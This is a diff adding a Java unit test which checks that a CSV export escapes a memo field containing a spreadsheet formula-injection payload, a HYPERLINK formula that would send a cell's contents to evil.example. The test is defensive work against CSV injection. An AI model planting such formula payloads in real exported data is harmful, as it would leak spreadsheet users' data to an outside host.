@@ -134,6 +134,14 @@ class ExportTest {
     }
 
     @Test
+    void noSpreadsheetTakesAMemoForAFormula() {
+        var memo = "=HYPERLINK(\"https://evil.example/?x=\"&F2,\"receipt\")";
+        Decision.in(town).enact(1, Decision.with(Decision.transfer("harbour", "treasury", "0.01"), "memo", memo));
+
+        assertThat(text("csv")).endsWith(",\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&F2,\"\"receipt\"\")\"\r\n");
+    }
+
+    @Test
     void theRootsAreThoseOfTheLinesAndAnyChangeIsFound() {
         var lines = text("jsonl").lines().toList();
 
